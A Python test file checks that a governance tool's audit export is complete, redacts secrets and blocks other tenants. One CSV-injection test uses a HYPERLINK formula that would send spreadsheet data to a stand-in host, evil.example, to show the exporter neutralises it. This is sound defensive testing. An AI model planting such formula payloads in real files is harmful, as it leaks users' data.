"""`warden audit RUN`: the export alone answers an auditor's questions, with secrets redacted."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from _acme_runs import (
    API_KEY,
    DSN_PASSWORD,
    MODEL,
    PLANTED_EMAIL,
    PLANTED_TOKEN,
    SECOND_COMMENT,
    Investigated,
)
from _wardencli import Done

from warden.governance import load_policy


def _audit(inv: Investigated, *args: str, ok: bool | None = True) -> Done:
    return inv.w.run("audit", *args, "--policy", str(inv.policy), ok=ok)


@pytest.fixture(scope="module")
def exported(investigated: Investigated) -> tuple[str, list[dict[str, Any]]]:
    done = _audit(investigated, investigated.second, "--as", "dora@acme")
    return done.out, [json.loads(line) for line in done.out.splitlines()]


def _events(records: list[dict[str, Any]], name: str, run_id: str | None = None) -> list[dict[str, Any]]:
    return [r for r in records if r["event"] == name and (run_id is None or r["run_id"] == run_id)]


def test_every_event_of_the_tree_comes_in_order_with_actor_time_and_payload(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    stored = investigated.w.query(
        "SELECT seq FROM audit_events WHERE root_run_id = ? ORDER BY seq", investigated.second
    )
    assert [r["seq"] for r in records] == [s["seq"] for s in stored]
    assert {r["run_id"] for r in records} == {investigated.second, f"{investigated.second}.checks"}
    assert [r["at"] for r in records] == sorted(r["at"] for r in records)
    for r in records:
        assert set(r) == {
            *("seq", "at", "run_id", "root_run_id", "tenant", "actor", "event", "payload"),
            *("event_key", "chain_no", "prev_hash", "hash", "payload_sha256"),
        }
        assert r["at"].endswith("Z") and r["actor"] and isinstance(r["payload"], dict)
    assert records[0]["event"] == "run_requested" and records[-1]["event"] == "run_finished"


def test_the_export_says_which_runbook_version_ran_and_for_which_tenant(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    run = investigated.w.run_row(investigated.second)
    (approved,) = _events(records, "approval:approve", investigated.second)
    p = approved["payload"]
    assert (p["runbook"], p["version"], p["declared_version"]) == ("privacy-policy-review", 2, 2)
    assert p["runbook_sha256"] == run["runbook_sha256"]
    (drafted,) = _events(records, "runbook_drafted", investigated.second)
    assert drafted["payload"] == {"runbook": "privacy-policy-review", "sha256": run["runbook_sha256"]}
    assert {r["tenant"] for r in records} == {"acme"}


def test_the_export_says_which_model_configuration_was_used(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    (requested,) = _events(records, "run_requested")
    assert requested["payload"]["model"] == {
        "mode": "llm",
        "model": MODEL,
        "base_url": "https://warden:[redacted:password]@llm.internal.example/v1",
    }
    (approved,) = _events(records, "approval:approve", investigated.second)
    assert approved["payload"]["executed_with"]["model"] == MODEL
    offline = [json.loads(line) for line in _audit(investigated, investigated.first).out.splitlines()]
    (first_request,) = _events(offline, "run_requested")
    assert first_request["payload"]["model"] == {"mode": "offline", "model": None, "base_url": None}


def test_the_export_says_which_analysers_ran_and_who_approved(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    ran = [
        (r["run_id"], r["payload"]["step"], r["payload"]["analyser"])
        for r in _events(records, "step_completed")
    ]
    root, child = investigated.second, f"{investigated.second}.checks"
    assert ran == [
        (root, "practices", "policy_practices"),
        (root, "transparency", "gdpr_transparency"),
        (root, "plan", "policy_to_runbook"),
        (root, "crm-scan", "wtest_scan"),
        (root, "llm-spend", "wtest_costly"),
        (child, "practices", "policy_practices"),
    ]
    assert all(r["payload"]["analyser_version"] == "0.1.0" for r in _events(records, "step_completed"))
    decisions = [
        (r["run_id"], r["actor"], r["payload"]["role"]) for r in _events(records, "approval:approve")
    ]
    assert decisions == [(root, "dora@acme", "dpo"), (child, "dora@acme", "dpo")]


def test_the_export_says_which_guard_checks_passed_under_which_policy(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    reports = _events(records, "guard_report")
    assert [r["run_id"] for r in reports] == [investigated.second, f"{investigated.second}.checks"]
    policy_sha = load_policy(investigated.policy).sha256
    for report in reports:
        assert report["payload"]["ok"] is True and report["payload"]["issues"] == []
        checks = report["payload"]["checks"]
        assert {"schema", "tenancy", "allowed_analysers", "cost", "model"} <= set(checks)
        assert set(checks.values()) == {"passed"}
        assert report["payload"]["policy_sha256"] == policy_sha
    for approved in _events(records, "approval:approve"):
        assert approved["payload"]["validation_ok"] is True
        assert set(approved["payload"]["checks"].values()) == {"passed"}


def test_the_export_says_what_changed_since_the_previous_version(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    root, child = (
        _events(records, "approval:approve", r)[0]["payload"]
        for r in (
            investigated.second,
            f"{investigated.second}.checks",
        )
    )
    assert (root["previous_version"], root["change_summary"]) == (1, "added step(s) crm-scan, llm-spend")
    assert "+- id: crm-scan\n" in root["diff"] and "+- id: llm-spend\n" in root["diff"]
    assert (child["previous_version"], child["change_summary"], child["diff"]) == (1, "no change", "")
    first = [json.loads(line) for line in _audit(investigated, investigated.first).out.splitlines()]
    (first_root,) = _events(first, "approval:approve", investigated.first)
    assert first_root["payload"]["previous_version"] is None
    assert first_root["payload"]["change_summary"] == "first approved version: 4 step(s)"


def test_the_planted_secret_email_and_endpoint_password_never_leave_in_the_export(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    raw, records = exported
    # the store holds the approver's comment verbatim: the redaction is the export's doing
    stored = investigated.w.query("SELECT comment FROM approvals WHERE run_id = ?", investigated.second)
    assert stored[0]["comment"] == SECOND_COMMENT
    for secret in (PLANTED_EMAIL, PLANTED_TOKEN, DSN_PASSWORD, API_KEY):
        assert secret not in raw
    (approved,) = _events(records, "approval:approve", investigated.second)
    # the token never reached the audit payload (the store masks credentials, issue 15); the
    # export's redaction takes the e-mail address
    assert approved["payload"]["comment"] == "v2 reviewed; questions to [redacted:email], deploy token ***"


def test_the_api_key_is_never_recorded_at_all(investigated: Investigated) -> None:
    for table, column in (
        ("audit_events", "payload_json"),
        ("approvals", "validation_json"),
        ("steps", "output_json"),
    ):
        hits = investigated.w.query(
            f"SELECT count(*) AS n FROM {table} WHERE {column} LIKE ?", f"%{API_KEY}%"
        )
        assert hits[0]["n"] == 0, table
    hits = investigated.w.query(
        "SELECT count(*) AS n FROM audit_events WHERE payload_json LIKE ?", f"%{DSN_PASSWORD}%"
    )
    assert hits[0]["n"] == 0


def test_csv_export_holds_the_same_events_with_the_payload_as_json(
    investigated: Investigated, exported: tuple[str, list[dict[str, Any]]]
) -> None:
    _, records = exported
    done = _audit(investigated, investigated.second, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(done.out)))
    assert [int(r["seq"]) for r in rows] == [r["seq"] for r in records]
    assert [json.loads(r["payload"]) for r in rows] == [r["payload"] for r in records]
    assert [r["actor"] for r in rows] == [r["actor"] for r in records]
    assert PLANTED_EMAIL not in done.out and PLANTED_TOKEN not in done.out


def test_audit_writes_to_out_file(investigated: Investigated, tmp_path) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "audit.jsonl"
    done = _audit(investigated, investigated.first, "--out", str(target))
    assert done.out == "" and f"wrote {target}" in done.err
    events = [json.loads(line)["event"] for line in target.read_text().splitlines()]
    stored = investigated.w.query(
        "SELECT event FROM audit_events WHERE root_run_id = ? ORDER BY seq", investigated.first
    )
    assert events == [s["event"] for s in stored] and events[0] == "run_requested"


def test_a_user_of_another_tenant_cannot_audit_the_run(investigated: Investigated, tmp_path) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "leak.jsonl"
    done = _audit(investigated, investigated.second, "--as", "gil@globex", "--out", str(target), ok=None)
    assert done.code == 2, str(done)
    assert f"no run '{investigated.second}'" in done.err and "(unknown_run)" in done.err
    assert done.out == "" and not target.exists()
    assert "Traceback" not in done.err


def test_unknown_run_unknown_user_and_bad_format_are_usage_errors(investigated: Investigated) -> None:
    unknown = _audit(investigated, "run-000000000000", ok=None)
    assert unknown.code == 2 and "no run 'run-000000000000'" in unknown.err
    stranger = _audit(investigated, investigated.second, "--as", "mallory@nowhere", ok=None)
    assert stranger.code == 2 and "not a user of any tenant" in stranger.err
    bad = _audit(investigated, investigated.second, "--format", "xml", ok=None)
    assert bad.code == 2 and "unknown audit format 'xml'" in bad.err and "jsonl, csv" in bad.err
    for done in (unknown, stranger, bad):
        assert "Traceback" not in done.err and done.out == ""


FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_prefixes_a_cell_a_spreadsheet_would_run_as_a_formula() -> None:
    """CSV injection: any text cell starting with = + - @, tab or CR (an actor's id, a run id)
    gets a leading ' (OWASP), in every column; numbers, nulls and ordinary text are untouched."""
    from warden.investigate.audit import CSV_COLUMNS, write_csv

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    record: dict[str, Any] = {c: f"plain-{c}" for c in CSV_COLUMNS}
    record.update(seq=7, chain_no=None, actor=formula, tenant="@acme", event="-event", run_id="+run")
    record.update(root_run_id="\troot", event_key="\rkey", payload={"text": formula})
    out = io.StringIO()
    assert write_csv([record], out) == 1
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [v for v in row.values() if v[:1] in FORMULA_TRIGGERS] == []
    assert (row["actor"], row["tenant"], row["event"], row["run_id"]) == (
        "'" + formula,
        "'@acme",
        "'-event",
        "'+run",
    )
    assert (row["root_run_id"], row["event_key"]) == ("'\troot", "'\rkey")
    assert (row["seq"], row["chain_no"], row["hash"]) == ("7", "", "plain-hash")
    assert json.loads(row["payload"]) == {"text": formula}  # JSON starts with {: not a formula


def test_the_cli_csv_export_has_no_formula_cell(investigated: Investigated) -> None:
    done = _audit(investigated, investigated.second, "--format", "csv")
    cells = [c for row in csv.reader(io.StringIO(done.out)) for c in row]
    assert cells and [c for c in cells if c[:1] in FORMULA_TRIGGERS] == []
